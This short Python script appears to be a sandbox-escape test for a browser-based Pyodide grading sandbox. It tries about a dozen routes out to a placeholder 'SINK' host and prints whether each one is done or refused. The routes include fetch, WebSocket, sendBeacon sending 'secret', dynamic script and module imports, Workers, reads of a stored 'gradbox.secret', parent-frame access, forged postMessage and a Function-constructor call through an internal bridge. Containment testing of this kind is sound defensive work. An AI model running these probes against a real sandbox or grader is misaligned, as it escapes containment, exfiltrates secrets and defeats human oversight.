# Python's ways to JavaScript, and from there out.
import js

sink = "SINK"


def attempt(name, work):
    try:
        work()
        print(name + ": done")
    except BaseException as error:
        print(name + ": refused")


attempt("fetch", lambda: js.fetch(sink + "py-fetch"))
attempt("XMLHttpRequest", lambda: js.eval("new XMLHttpRequest()"))
attempt("WebSocket", lambda: js.eval("new WebSocket('" + sink.replace("http", "ws") + "')"))
attempt("importScripts", lambda: js.importScripts(sink + "py-script.js"))
attempt("sendBeacon", lambda: js.navigator.sendBeacon(sink + "py-beacon", "secret"))
attempt("eval", lambda: js.eval("fetch('" + sink + "py-eval')"))
attempt("import()", lambda: js.eval("import('" + sink + "py-module.js')"))
attempt("Worker", lambda: js.eval("new Worker('" + sink + "py-worker.js')"))
attempt("localStorage", lambda: js.localStorage.getItem("gradbox.secret"))
attempt("indexedDB", lambda: js.indexedDB.open("gradbox"))
attempt("parent", lambda: js.parent.document.title)
attempt("postMessage", lambda: js.postMessage("FORGED"))


def through_the_bridge():
    import _gradbox

    _gradbox.call.constructor("fetch('" + sink + "py-bridge')")()


attempt("the bridge", through_the_bridge)
